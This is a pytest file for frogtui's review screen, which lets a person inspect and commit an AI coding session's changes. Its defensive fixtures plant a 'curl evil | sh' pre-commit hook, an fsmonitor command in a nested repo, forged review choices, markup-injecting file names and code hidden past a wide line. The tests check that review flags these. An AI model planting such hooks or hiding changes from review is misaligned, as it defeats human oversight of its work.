"""The review screen in a minimal host app, driven by Pilot against real repositories."""
from __future__ import annotations

import json
import time
from pathlib import Path

import pytest
from textual.app import App
from textual.widgets import TextArea

from frogtui.models.replay import ReplayModel
from frogtui.protocol import ToolCall
from frogtui.session import Session
from frogtui.ui.review import SEEN_CHECK_S, HunkDiff, HunkTree, ReviewScreen
from frogtui.ui.themes import VARIABLE_DEFAULTS
from frogtui.vcs.checkpoints import Checkpoints
from frogtui.vcs.choices import choice_key
from frogtui.vcs.message import Drafts, summary_message
from frogtui.vcs.repository import RepoState, discover
from frogtui.vcs.review import ReviewSession
from frogtui.vcs.verify import recorded_under
from tests.support import SlowModel, write_replay
from tests.vcs.cases import SPLITTABLE, git


class Host(App[None]):
    def __init__(self, screen: ReviewScreen) -> None:
        super().__init__()
        self.review_screen = screen

    def get_theme_variable_defaults(self) -> dict[str, str]:
        return dict(VARIABLE_DEFAULTS)

    def on_mount(self) -> None:
        self.push_screen(self.review_screen)


def tree_labels(screen: ReviewScreen) -> list[str]:
    tree = screen.query_one(HunkTree)
    out = []
    for node in tree.root.children:
        out.append(str(node.label))
        out.extend("  " + str(child.label) for child in node.children)
    return out


async def settle(pilot) -> None:
    await pilot.app.workers.wait_for_complete()
    await pilot.pause()


async def seen(pilot, screen: ReviewScreen, path: str) -> None:
    """Wait until every accepted change of ``path`` counts as seen (it is looked at after a refresh)."""
    for _ in range(100):
        if not [h for h in screen.selection.unseen_accepted() if h.file.path == path]:
            return
        await pilot.pause(0.05)
    raise AssertionError(f"{path} never counted as seen")


def many_lines_session(py_repo: Path, session: str) -> RepoState:
    """``many.txt`` committed, a session started, then ``calc.py`` fixed by the session."""
    (py_repo / "many.txt").write_text(SPLITTABLE)
    git(py_repo, "add", "many.txt")
    git(py_repo, "commit", "-q", "-m", "many")
    state = discover(py_repo, session)
    assert state is not None
    by_the_session(state, py_repo / "calc.py", "def add(a, b):\n    return a + b\n")
    return state


def by_the_session(state: RepoState, path: Path, text: str) -> None:
    """Write ``path`` as a step of the session does: between a checkpoint and its after snapshot
    (else the review counts it as the person's edit)."""
    checkpoints = Checkpoints(state)
    step = 1 + sum(1 for ref in recorded_under(state.ref_prefix) if ref.rsplit("/", 1)[1].isdigit())
    call = ToolCall(id=f"w{step}", name="Write", arguments={"file_path": path.name, "content": text})
    checkpoints.before_action(step, call)
    path.write_text(text)
    checkpoints.after_action(step, call)
    checkpoints.flush()


async def test_toggle_split_commit_and_undo(py_repo: Path, tmp_path: Path) -> None:
    state = many_lines_session(py_repo, "ui")
    (py_repo / "many.txt").write_text(SPLITTABLE.replace("line 5\n", "line five\n").replace("line 9\n", "line nine\n"))
    (py_repo / "notes é.txt").write_text("new\n")
    model = ReplayModel(write_replay(tmp_path / "m.jsonl", [
        "hm\n</think>\nFix add and tidy lines\n\nAlso adds notes.",
        "again\n</think>\nFix add and tidy lines\n\nKeeps line 9.",
    ]))
    screen = ReviewScreen(ReviewSession(state, trailer="Assisted-by: UI test"), model=model)
    app = Host(screen)
    async with app.run_test(size=(140, 40)) as pilot:
        await settle(pilot)
        await seen(pilot, screen, "calc.py")
        assert tree_labels(screen) == [  # calc.py's diff is on screen: seen; the others not yet
            "[x] calc.py",
            "  [x] @@ -1,2 +1,2 @@",
            "[x] many.txt · not seen yet",
            "  [x] @@ -2,11 +2,11 @@ line 1 · not seen yet",
            "[x] notes é.txt (new) · not seen yet",
            "  [x] @@ -0,0 +1,1 @@ · not seen yet",
        ]
        assert screen.query_one("#review-message", TextArea).text.startswith("Fix add and tidy lines\n\nAlso adds notes.")
        await pilot.press("down", "down", "down")  # from calc.py: its hunk -> many.txt -> its hunk
        assert "line five" in str(screen.query_one(HunkDiff).render())
        await seen(pilot, screen, "many.txt")
        await pilot.press("s")
        labels = tree_labels(screen)
        assert labels[2:5] == ["[x] many.txt", "  [x] @@ -2,11 +2,11 @@ line 1 · line 5", "  [x] @@ -2,11 +2,11 @@ line 1 · line 9"]
        await pilot.press("down", "space")  # reject the second piece (line 9)
        assert tree_labels(screen)[2] == "[~] many.txt" and tree_labels(screen)[4].startswith("  [ ]")
        await pilot.press("down", "a")  # notes é.txt: reject the whole file
        assert tree_labels(screen)[5] == "[ ] notes é.txt (new)"
        # the model's draft still describes the notes file: committing asks for a redraft first
        await pilot.press("ctrl+s")
        await settle(pilot)
        assert git(py_repo, "log", "-1", "--format=%s").strip() == "many"
        assert "press m to redraft" in str(screen.query_one("#review-status").render())
        await pilot.press("m")
        await settle(pilot)
        assert screen.query_one("#review-message", TextArea).text.startswith("Fix add and tidy lines\n\nKeeps line 9.")
        await pilot.press("ctrl+s")
        await settle(pilot)
        assert git(py_repo, "show", "--name-only", "--format=%s", "HEAD").split("\n")[:3] == ["Fix add and tidy lines", "", "calc.py"]
        committed = git(py_repo, "show", "HEAD:many.txt")
        assert "line five" in committed and "line 9\n" in committed
        assert "Assisted-by: UI test" in git(py_repo, "log", "-1", "--format=%B")
        # what was not accepted is still there, and is what the screen shows now: still rejected
        assert [label for label in tree_labels(screen) if not label.startswith("  ")] == ["[ ] many.txt", "[ ] notes é.txt (new)"]
        await pilot.press("u")
        await settle(pilot)
        assert git(py_repo, "log", "-1", "--format=%s").strip() == "initial" or git(py_repo, "log", "-1", "--format=%s").strip() == "many"
        assert (py_repo / "calc.py").read_text().endswith("a + b\n")
        assert "[x] calc.py" in tree_labels(screen)


async def test_failed_hook_keeps_everything_and_discard_asks(py_repo: Path) -> None:
    hook = py_repo / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\necho 'refused by hook' >&2\nexit 1\n")
    hook.chmod(0o755)
    state = discover(py_repo, "ui2")
    (py_repo / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    (py_repo / "scratch.txt").write_text("tmp\n")
    screen = ReviewScreen(ReviewSession(state))
    async with Host(screen).run_test(size=(120, 36)) as pilot:
        await settle(pilot)
        assert screen.query_one("#review-message", TextArea).text.startswith("Update 2 files")
        await pilot.press("down", "down")  # scratch.txt drawn: seen
        await seen(pilot, screen, "scratch.txt")
        await pilot.press("up", "up")  # back on calc.py
        await settle(pilot)
        await pilot.press("c")  # a letter never commits
        await settle(pilot)
        assert not pilot.app._notifications
        await pilot.press("ctrl+s")
        await settle(pilot)
        assert git(py_repo, "log", "--format=%s").strip() == "initial"
        assert any("refused by hook" in n.message for n in pilot.app._notifications)
        await pilot.press("down", "down", "space")  # from calc.py: its hunk -> scratch.txt: reject it
        await pilot.press("d")
        await pilot.pause()
        await pilot.press("n")
        await pilot.pause()
        assert (py_repo / "scratch.txt").exists()
        await pilot.press("d")
        await pilot.pause()
        await pilot.press("y")
        await settle(pilot)
        assert not (py_repo / "scratch.txt").exists()
        assert (py_repo / "calc.py").read_text().endswith("a + b\n")
        assert tree_labels(screen) == ["[x] calc.py", "  [x] @@ -1,2 +1,2 @@"]
        await pilot.press("u")  # nothing to undo: a warning, nothing changes
        await pilot.pause()
        assert any("no commit" in n.message for n in pilot.app._notifications)


@pytest.mark.slow  # more than 5 s of CPU (issue 29)
async def test_a_huge_rewrite_is_drawn_a_page_at_a_time_and_toggles_per_file(py_repo: Path) -> None:
    from frogtui.ui.review_pages import PAGE_ROWS

    (py_repo / "huge.py").write_text("".join(f"value_{i} = {i}\n" for i in range(20_000)))
    for i in range(60):
        (py_repo / f"pkg/m{i}.py").parent.mkdir(exist_ok=True)
        (py_repo / f"pkg/m{i}.py").write_text("".join(f"x{j} = {j}\n" for j in range(30)))
    git(py_repo, "add", ".")
    git(py_repo, "commit", "-q", "-m", "big")
    state = discover(py_repo, "big")
    (py_repo / "huge.py").write_text("".join(f"value_{i} = {i * 2}\n" for i in range(20_000)))
    for i in range(60):
        path = py_repo / f"pkg/m{i}.py"
        path.write_text(path.read_text().replace("x3 = 3\n", "x3 = 33\n").replace("x20 = 20\n", "x20 = 2020\n"))
    screen = ReviewScreen(ReviewSession(state))
    async with Host(screen).run_test(size=(120, 36)) as pilot:
        await settle(pilot)
        labels = tree_labels(screen)
        assert labels[0] == "[x] huge.py · not seen yet"
        assert labels[1] == "  [x] @@ -1,20000 +1,20000 @@ · old lines 2–101 · not seen yet"  # value_0 is unchanged
        assert sum(1 for label in labels if label.startswith("  [x] @@ -1,20000")) == 2 * 19_999 // 100 + 1
        drawn = str(screen.query_one(HunkDiff).render())
        assert drawn.count("\n") <= PAGE_ROWS
        title = str(screen.query_one("#review-diff-scroll").border_title)
        assert title.startswith("huge.py · lines 1–") and "of 39,999 · page 1 of 81" in title, title
        await pilot.press("a")  # reject the whole file
        labels = tree_labels(screen)
        assert labels[0] == "[ ] huge.py" and "[x] pkg/m0.py · not seen yet" in labels
        for _ in range(200):  # each refused commit puts the cursor on the next unseen hunk: drawn, seen
            if not screen.selection.unseen_accepted():
                break
            await pilot.press("ctrl+s")
            await pilot.pause()
        assert git(py_repo, "log", "-1", "--format=%s").strip() == "big"
        await pilot.press("ctrl+s")
        await settle(pilot)
        assert git(py_repo, "show", "HEAD:huge.py").startswith("value_0 = 0\nvalue_1 = 1\n")
        assert "x3 = 33" in git(py_repo, "show", "HEAD:pkg/m59.py")
        assert tree_labels(screen)[0] == "[ ] huge.py"  # what was left is listed again, still rejected


async def test_without_a_model_the_summary_follows_the_selection(py_repo: Path) -> None:
    state = discover(py_repo, "summary")
    (py_repo / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    (py_repo / "bench.py").write_text("print('bench')\n")
    screen = ReviewScreen(ReviewSession(state, trailer=""), model=None)
    async with Host(screen).run_test(size=(140, 40)) as pilot:
        await settle(pilot)
        message = screen.query_one("#review-message", TextArea)
        assert "bench.py" in message.text and "calc.py" in message.text
        await pilot.press("a")  # the cursor starts on bench.py: reject the whole file
        await settle(pilot)
        assert "bench.py" not in message.text and "calc.py" in message.text
        await pilot.press("down", "down")  # calc.py drawn: seen
        await seen(pilot, screen, "calc.py")
        await pilot.press("ctrl+s")
        await settle(pilot)
    body = git(py_repo, "log", "-1", "--format=%B")
    assert "bench.py" not in body and "calc.py" in body
    assert git(py_repo, "show", "--name-only", "--format=", "HEAD").split() == ["calc.py"]


async def test_a_session_change_to_a_hook_or_git_attributes_is_marked(py_repo: Path) -> None:
    """Issue 9 build item 2: the person's commit runs their hooks, so a session's change under the
    hooks path or to a git-controlling file is marked in review; the person's own is not."""
    git(py_repo, "config", "core.hooksPath", ".husky/_")
    (py_repo / "notes.txt").write_text("mine\n")
    state = discover(py_repo, "hooks")
    (py_repo / ".husky" / "_").mkdir(parents=True)
    (py_repo / ".husky" / "_" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
    (py_repo / ".gitattributes").write_text("*.py filter=x\n")
    (py_repo / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    screen = ReviewScreen(ReviewSession(state))
    async with Host(screen).run_test(size=(140, 40)) as pilot:
        await settle(pilot)
        files = [str(node.label) for node in screen.query_one(HunkTree).root.children]
    marked = [label for label in files if "runs at your next commit" in label]
    assert len(marked) == 2 and any(".husky/_/pre-commit" in m for m in marked) and any(".gitattributes" in m for m in marked), files


async def test_discard_lists_file_names_as_they_are() -> None:
    """Red team (rt9): the names are the model's (``touch 'a [/] b'``); read as markup, one crashed
    the app (MarkupError) when the person chose to discard, another drew a clickable action."""
    from textual.widgets import Label

    from frogtui.ui.review import ConfirmDiscard

    names = ["a [/] b.txt", "[@click=app.quit]ok[/].txt"]

    class DiscardHost(App[None]):
        def get_theme_variable_defaults(self) -> dict[str, str]:
            return dict(VARIABLE_DEFAULTS)

        def on_mount(self) -> None:
            self.push_screen(ConfirmDiscard(names))

    async with DiscardHost().run_test(size=(120, 30)) as pilot:
        await pilot.pause()
        shown = str(pilot.app.screen.query_one(Label).render())
        assert all(name in shown for name in names), shown



async def test_rejections_stay_across_commit_reopen_and_resume(py_repo: Path) -> None:
    session = Session.create(py_repo)  # a session folder: its refs are recorded there (vcs/verify.py)
    state = many_lines_session(py_repo, session.id)
    by_the_session(state, py_repo / "many.txt", SPLITTABLE.replace("line 5\n", "line five\n").replace("line 30\n", "line thirty\n"))
    screen = ReviewScreen(ReviewSession(state))
    async with Host(screen).run_test(size=(140, 40)) as pilot:
        await settle(pilot)
        await seen(pilot, screen, "calc.py")
        assert tree_labels(screen) == ["[x] calc.py", "  [x] @@ -1,2 +1,2 @@", "[x] many.txt · not seen yet",
                                       "  [x] @@ -2,7 +2,7 @@ line 1 · not seen yet", "  [x] @@ -27,7 +27,7 @@ line 26 · not seen yet"]
        await pilot.press("down", "down")  # many.txt: both hunks on screen, seen
        await seen(pilot, screen, "many.txt")
        await pilot.press("down", "space")  # reject the line-5 hunk of many.txt
        await pilot.press("down", "space", "space")  # the line-30 hunk: rejected, then accepted again
        await settle(pilot)
        await pilot.press("ctrl+s")
        await settle(pilot)
        assert "line thirty" in git(py_repo, "show", "HEAD:many.txt") and "line five" not in git(py_repo, "show", "HEAD:many.txt")
        assert tree_labels(screen) == ["[ ] many.txt", "  [ ] @@ -2,7 +2,7 @@ line 1"]
        assert str(screen.query_one("#review-status").render()).startswith("0 of 1 changes accepted")
        await pilot.press("ctrl+s")  # nothing accepted: nothing committed
        await settle(pilot)
        assert git(py_repo, "log", "-1", "--format=%s").strip() != "many"

    reopened = ReviewScreen(ReviewSession(state))  # ctrl+r again: a new ReviewSession
    async with Host(reopened).run_test(size=(140, 40)) as pilot:
        await settle(pilot)
        assert tree_labels(reopened) == ["[ ] many.txt", "  [ ] @@ -2,7 +2,7 @@ line 1"]

    resumed = ReviewScreen(py_repo)  # frogtui --resume: the state is read back from the session's refs
    async with Host(resumed).run_test(size=(140, 40)) as pilot:
        await settle(pilot)
        assert resumed.review.state.session == session.id
        assert tree_labels(resumed) == ["[ ] many.txt", "  [ ] @@ -2,7 +2,7 @@ line 1"]
        await pilot.press("space")  # the person changes their mind: accepted, and remembered so
        await settle(pilot)

    again = ReviewScreen(ReviewSession(state))
    async with Host(again).run_test(size=(140, 40)) as pilot:
        await settle(pilot)
        await seen(pilot, again, "many.txt")
        assert tree_labels(again) == ["[x] many.txt", "  [x] @@ -2,7 +2,7 @@ line 1"]


async def test_choices_changed_outside_frogtui_are_not_used(py_repo: Path, tmp_path: Path) -> None:
    """A command that writes refs/frogtui/<session>/review (a sandbox turned off) cannot accept the
    person's own earlier change for them: the planted choices are refused, the defaults hold."""
    (py_repo / "calc.py").write_text("def add(a, b):\n    return a + b  # mine\n")
    session = Session.create(py_repo)
    state = discover(py_repo, session.id)
    (py_repo / "notes.txt").write_text("the session's\n")
    earlier = next(f for f in ReviewSession(state).load().files if f.path == "calc.py")
    assert not earlier.accepted
    planted = tmp_path / "choices.json"
    planted.write_text(json.dumps({choice_key(earlier, earlier.groups[0]): True}))
    blob = git(py_repo, "hash-object", "-w", str(planted)).strip()
    git(py_repo, "update-ref", f"refs/frogtui/{session.id}/review", blob)
    screen = ReviewScreen(ReviewSession(state))
    async with Host(screen).run_test(size=(140, 40)) as pilot:
        await settle(pilot)
        assert tree_labels(screen)[0] == "[ ] calc.py (yours, from before the session)"
        assert any("not what frogtui recorded" in n.message for n in pilot.app._notifications)


async def test_a_nested_repository_the_session_created_is_flagged(py_repo: Path) -> None:
    """A nested git repository the session made (``git init nest``) is left out of review, and
    flagged on top: its own config runs at the person's git commands inside it."""
    state = discover(py_repo, "nested")
    (py_repo / "nest").mkdir()
    git(py_repo / "nest", "init", "-q")
    git(py_repo / "nest", "config", "core.fsmonitor", "touch X")
    (py_repo / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    screen = ReviewScreen(ReviewSession(state))
    async with Host(screen).run_test(size=(140, 40)) as pilot:
        await settle(pilot)
        await seen(pilot, screen, "calc.py")  # the first file's diff is drawn under the flag
        files = [str(node.label) for node in screen.query_one(HunkTree).root.children]
        await pilot.press("space")  # on the flag: nothing to toggle, nothing breaks
        await settle(pilot)
    assert files[0].startswith("nest/") and "nested git repository" in files[0] and "core.fsmonitor" in files[0], files
    assert files[1:] == ["[x] calc.py"], files


async def test_an_ignored_path_the_session_changed_is_flagged(py_repo: Path) -> None:
    """Issue 23: a command's change under an ignored path (``.venv/bin/git``) is in no diff: it is
    named on top of the review, and undo cannot restore it."""
    from frogtui.protocol import ToolCall
    from frogtui.vcs.checkpoints import Checkpoints

    (py_repo / ".gitignore").write_text(".venv/\n")
    git(py_repo, "add", ".gitignore")
    git(py_repo, "commit", "-q", "-m", "ignore")
    state = discover(py_repo, "ignored")
    points = Checkpoints(state)
    points.before_action(1, ToolCall(id="c1", name="Bash", arguments={"command": "…"}))
    (py_repo / ".venv" / "bin").mkdir(parents=True)
    (py_repo / ".venv" / "bin" / "git").write_text("#!/bin/sh\n")
    (py_repo / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    screen = ReviewScreen(ReviewSession(state, ignored=points.ignored_changed))
    async with Host(screen).run_test(size=(140, 40)) as pilot:
        await settle(pilot)
        files = [str(node.label) for node in screen.query_one(HunkTree).root.children]
    assert files[0].startswith(".venv/bin/git ") and "ignored by git" in files[0] and "undo cannot restore" in files[0], files
    assert files[1:] == ["[x] calc.py"], files


async def page_until_seen(pilot, screen: ReviewScreen, needle: str, presses: int = 400) -> tuple[int | None, list[bool]]:
    """Press ``]`` until no accepted hunk is unseen; return at which press ``needle`` was first on
    screen, and for each press whether the hunk holding it counted as seen by then."""
    def holder_seen() -> bool:
        return all(g.seen for f in screen.selection.files for g in f.groups if any(needle in line for line in g.added))

    first_drawn, seen_after = None, []
    for press in range(presses):
        if first_drawn is None and needle in pilot.app.export_screenshot():
            first_drawn = press
        seen_after.append(holder_seen())
        if not screen.selection.unseen_accepted():
            break
        await pilot.press("right_square_bracket")
        await pilot.pause()
    return first_drawn, seen_after


@pytest.mark.slow  # more than 5 s of CPU (issue 29)
async def test_a_new_file_is_committed_only_once_every_line_was_drawn(py_repo: Path) -> None:
    """Issue 23 item 6: line 601 of a new 1,200-line conftest.py must be drawn before it can be
    committed; the commit holds what git says it holds."""
    from tests.vcs.test_blocks import conftest_text

    state = discover(py_repo, "seen")
    text = conftest_text()
    (py_repo / "conftest.py").write_text(text)
    screen = ReviewScreen(ReviewSession(state, trailer=""))
    async with Host(screen).run_test(size=(120, 36)) as pilot:
        await settle(pilot)
        labels = tree_labels(screen)
        assert labels[0].startswith("[x] conftest.py (new)") and "not seen yet" in labels[0]
        assert len(labels) >= 13 and labels[1].startswith("  [x] @@ -0,0 +1,1200 @@ · lines 1–")
        assert "lines 1–" in str(screen.query_one("#review-diff-scroll").border_title) and "of 1,200" in str(
            screen.query_one("#review-diff-scroll").border_title
        )
        await pilot.press("ctrl+s")
        await settle(pilot)
        assert git(py_repo, "log", "-1", "--format=%s").strip() == "initial"
        assert any("never shown in full" in n.message for n in pilot.app._notifications)
        await pilot.press("home")  # the file: every block, page after page
        await settle(pilot)
        drawn_at, seen = await page_until_seen(pilot, screen, "MARKER-601")
        assert drawn_at is not None and drawn_at > 0, "the marker was never drawn"
        assert not any(seen[:drawn_at]), "the marker's block counted as seen before the marker was drawn"
        assert not screen.selection.unseen_accepted()
        assert "not seen yet" not in tree_labels(screen)[0]
        await pilot.press("ctrl+s")
        await settle(pilot)
    assert git(py_repo, "show", "HEAD:conftest.py") == text
    assert git(py_repo, "show", "--name-only", "--format=", "HEAD").split() == ["conftest.py"]


async def test_a_long_line_is_wrapped_so_its_tail_is_drawn(py_repo: Path) -> None:
    """Nothing hides past the pane's right edge: a 3,000-column line is wrapped, and its hunk is
    seen only once its last piece was on screen."""
    state = discover(py_repo, "wide")
    (py_repo / "calc.py").write_text("def add(a, b):\n    return a + b" + " " * 3_000 + "; __import__('os').system('WIDE-TAIL')\n")
    screen = ReviewScreen(ReviewSession(state, trailer=""))
    async with Host(screen).run_test(size=(100, 30)) as pilot:
        await settle(pilot)
        assert "not seen yet" in tree_labels(screen)[0]
        drawn_at, seen = await page_until_seen(pilot, screen, "WIDE-TAIL")
        assert drawn_at is not None and not any(seen[:drawn_at])
        await pilot.press("ctrl+s")
        await settle(pilot)
    assert "WIDE-TAIL" in git(py_repo, "show", "HEAD:calc.py")


async def test_rows_under_a_notification_are_not_seen_until_it_goes(py_repo: Path) -> None:
    """A notification drawn over the diff pane hides the rows under it: they are not seen then."""
    state = discover(py_repo, "covered")
    (py_repo / "a.txt").write_text("a\n")
    (py_repo / "b.txt").write_text("".join(f"b line {n}\n" for n in range(14)))
    screen = ReviewScreen(ReviewSession(state, trailer=""))
    async with Host(screen).run_test(size=(120, 30), notifications=True) as pilot:
        await settle(pilot)
        for n in range(6):
            pilot.app.notify(f"notice {n} " + "x" * 60, timeout=60)
        await pilot.pause()
        await pilot.press("down", "down", "down")  # b.txt's hunk, its lower rows under the notices
        await settle(pilot)
        await pilot.pause(SEEN_CHECK_S * 2)
        assert tree_labels(screen)[3].endswith("not seen yet"), tree_labels(screen)
        pilot.app.clear_notifications()
        await pilot.pause(SEEN_CHECK_S * 3)
        assert not tree_labels(screen)[3].endswith("not seen yet"), tree_labels(screen)


async def test_drafting_shows_progress_and_esc_stops_it(py_repo: Path) -> None:
    state = many_lines_session(py_repo, "slow")
    model = SlowModel(["Fix"] + [" add"] * 2000, 0.02)
    screen = ReviewScreen(ReviewSession(state, trailer=""), model=model)
    app = Host(screen)
    async with app.run_test(size=(120, 40)) as pilot:
        status = screen.query_one("#review-status")
        deadline = time.monotonic() + 10
        while "pieces" not in str(status.render()) and time.monotonic() < deadline:
            await pilot.pause(0.05)
        text = str(status.render())
        assert "Drafting the commit message with slow" in text and "Esc stops" in text, text
        await pilot.press("escape")
        await settle(pilot)
        assert app.screen is screen  # the first Esc stops the draft, the screen stays
        assert screen.query_one("#review-message", TextArea).text == summary_message(screen.review.staged_diff(screen.selection))
        assert "stopped" in str(status.render())
        await pilot.press("escape")
        await pilot.pause()
        assert app.screen is not screen


async def test_a_draft_is_made_once_for_the_same_changes(py_repo: Path) -> None:
    state = many_lines_session(py_repo, "once")
    model = SlowModel(["Fix add\n\nReturn the sum."], 0.0)
    drafts = Drafts()
    for _ in range(2):  # ctrl+r, Esc, ctrl+r: the second review shows the first one's draft
        screen = ReviewScreen(ReviewSession(state, trailer=""), model=model, drafts=drafts)
        app = Host(screen)
        async with app.run_test(size=(120, 40)) as pilot:
            await settle(pilot)
            assert screen.query_one("#review-message", TextArea).text == "Fix add\n\nReturn the sum."
    assert model.turns == 1
    (py_repo / "calc.py").write_text("def add(a, b):\n    return b + a\n")  # other changes: drafted again
    screen = ReviewScreen(ReviewSession(state, trailer=""), model=model, drafts=drafts)
    async with Host(screen).run_test(size=(120, 40)) as pilot:
        await settle(pilot)
    assert model.turns == 2


async def test_accepting_the_first_change_drafts_the_message(py_repo: Path) -> None:
    """Only the person's own edits, made during the session: nothing starts accepted, so nothing
    is drafted on opening; accepting one drafts the message then (the box is not left empty with
    no hint), once."""
    from frogtui.config import sessions_dir

    (sessions_dir() / "mine").mkdir(parents=True)
    state = discover(py_repo, "mine")
    (py_repo / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    model = SlowModel(["Fix add\n\nReturn the sum."], 0.0)
    screen = ReviewScreen(ReviewSession(state, trailer=""), model=model)
    async with Host(screen).run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        message = screen.query_one("#review-message", TextArea)
        assert message.text == "" and model.turns == 0
        await pilot.press("a")
        await settle(pilot)
        assert message.text == "Fix add\n\nReturn the sum."
        assert model.turns == 1
